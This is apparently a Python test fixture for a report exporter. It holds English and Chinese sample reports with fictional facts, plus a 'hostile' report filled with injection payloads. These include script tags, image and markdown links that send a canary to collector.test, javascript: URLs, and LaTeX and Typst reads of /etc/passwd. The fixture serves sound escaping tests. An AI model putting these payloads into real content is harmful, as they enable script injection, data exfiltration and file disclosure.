"""Reports as paper, in both languages, with what a hostile page would put into them."""

from research.store.exports.paper import Paper, Part, Reference, Run, Style

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=//collector.test/p?d=canary>",
    "![x](https://collector.test/p?d=canary)",
    "[a](javascript:alert(1))",
    '<div hx-get="/x" hx-trigger="load">',
    '#read("/etc/passwd") #image("x.png")',
    r"\input{/etc/passwd} %x $1$",
    "{{ secret }} {% include 'x' %}",
)

ENGLISH = Paper(
    title="What burned at Red Cape, and for how long?",
    language="en",
    facts="T-7 · draft: claims wait for review · version 1 · 1 of 2 claims supported",
    draft="Draft",
    intro=((Run("Looked in: documents. Queries: 2."),),),
    parts=(
        Part(
            "The fire",
            (
                (
                    Run("Investigation report", Style.STRONG),
                    Run(" (2024-05-02): “On 3 March 2024 rack 14 burned for 38 minutes.”"),
                    Run("p. 3, ¶ 12", note=1),
                ),
                (Run("The cell costs 0.61 yuan."), Run("", note=2), Run("(as of 2026-03-04 14:02 UTC)", Style.SOFT)),
                (Run("A fifth was lost."), Run("¶ 4", note=1), Run("(not carried by evidence)", Style.SOFT)),
            ),
        ),
        Part("Could not read", ((Run("http://slow.test/", link="http://slow.test/"), Run(": too slow")),)),
    ),
    sources="Sources",
    references=(
        Reference(1, "Investigation report", "Red Cape. published 2024-05-02, fetched 2026-03-04 14:02 UTC",
                  "https://red.test/r?a=1&b=2", "https://red.test/r?a=1&b=2"),
        Reference(2, "Spot prices", "prices.test. fetched 2026-03-04 14:02 UTC", "javascript:alert(1)", ""),
    ),
)  # fmt: skip

CHINESE = Paper(
    title="澜湾储能补贴在2023至2025年间如何变化？",
    language="zh-Hans",
    facts="T-8 · 终稿 · 第1版 · 1条论断中1条有据",
    draft="",
    intro=((Run("查找范围：文档。"),),),
    parts=(
        Part(
            "补贴标准",
            (
                (
                    Run("补贴办法", Style.STRONG),
                    Run(": “自2023年3月1日起，每千瓦时0.25元，“两年”有效。”"),
                    Run("第3段", note=1),
                ),
            ),
        ),
        Part("分歧", ((Run("甲：15%，上涨；乙：下降 ↔ 《公告》（2025年）"),),)),
    ),
    sources="来源",
    references=(Reference(1, "澜湾储能补贴办法", "澜湾发改委. 抓取于 2026-03-04 14:02 UTC", "团队自己的文档", ""),),
)


def hostile() -> Paper:
    """Every place of words filled with every payload; no reference has an address that may be a link."""
    words = " ".join(HOSTILE)
    line = (Run(words, Style.STRONG), Run(words), Run(words, note=1), Run(words, Style.SOFT))
    reference = Reference(1, words, words, "javascript:alert(1)", "")
    return Paper(words, "en", words, words, (line,), (Part(words, (line,), (line,)),), words, (reference,))
